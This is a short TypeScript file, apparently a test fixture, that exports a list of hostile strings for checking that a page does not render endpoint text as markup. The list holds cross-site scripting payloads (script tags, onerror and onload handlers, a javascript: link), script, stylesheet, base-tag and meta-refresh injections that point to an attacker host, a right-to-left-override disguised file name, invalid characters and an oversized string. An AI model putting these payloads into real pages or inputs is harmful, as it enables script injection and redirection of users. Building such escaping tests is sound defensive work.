// Texts of an endpoint that would do harm in a page that took them for markup.
export const PAGE_ATTACKS: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src="https://attacker.example/x.png" onerror="alert(1)">',
  '"><svg onload=alert(1)><a href="javascript:alert(1)">click</a>',
  '</script><script src="https://attacker.example/x.js"></script>',
  '<style>@import "https://attacker.example/x.css"</style><base href="https://attacker.example/">',
  '<meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  'invoice\u202Efdp.exe \ud800 \u0000',
  'x'.repeat(1_000_000),
]
